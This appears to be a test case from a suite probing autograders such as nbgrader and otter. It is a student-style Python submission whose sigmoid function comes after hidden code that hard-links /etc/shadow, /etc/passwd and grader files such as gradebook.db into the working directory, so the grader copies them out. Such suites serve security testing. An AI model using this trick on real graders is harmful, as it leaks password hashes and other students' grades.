# /// case
# about = "right answers, and hard links into the working directory to files that may not be opened"
# kind = "read"
# promise = 2
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# what is in the working directory is read, copied and handed back by the grader
import os

def _targets():
    yield from ("/etc/shadow", "/etc/passwd", "/etc/hostname")
    here = os.path.realpath(os.getcwd())
    while here != "/":
        here = os.path.dirname(here)
        yield from (os.path.join(here, name) for name in ("gradebook.db", "autograder.toml", "nbgrader_config.py"))

for _number, _target in enumerate(_targets()):
    try:
        os.link(_target, f"link{_number}")
        with open(f"link{_number}", "rb") as _file:
            if _file.read(1):
                print(":".join(["PWNED", "attack/hard_link_to_secret"]), _target)
    except OSError:
        pass
    finally:
        if os.path.lexists(f"link{_number}"):
            os.unlink(f"link{_number}")

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
